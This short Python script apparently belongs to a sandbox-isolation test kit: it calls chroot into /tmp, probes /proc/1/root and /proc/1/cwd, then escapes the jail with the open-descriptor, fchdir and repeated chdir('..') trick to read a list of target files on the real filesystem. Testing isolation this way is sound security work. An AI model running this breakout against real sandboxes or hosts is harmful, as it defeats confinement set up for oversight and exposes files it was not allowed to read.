"""Changes the root and walks out of it, through open folders, /proc and old tricks."""

import os

from kit import *

marked(lambda: os.chroot("/tmp") or "chroot", lambda: os.listdir("/proc/1/root"), lambda: os.listdir("/proc/1/cwd"))
here = os.open(".", os.O_RDONLY)
os.fchdir(here)
for _ in range(64):
    os.chdir("..")
for path in TARGET["files"]:
    marked(lambda: open("." + path).read(), lambda: os.listdir(os.path.dirname("." + path)))
os.chdir(os.path.expanduser("~/work"))
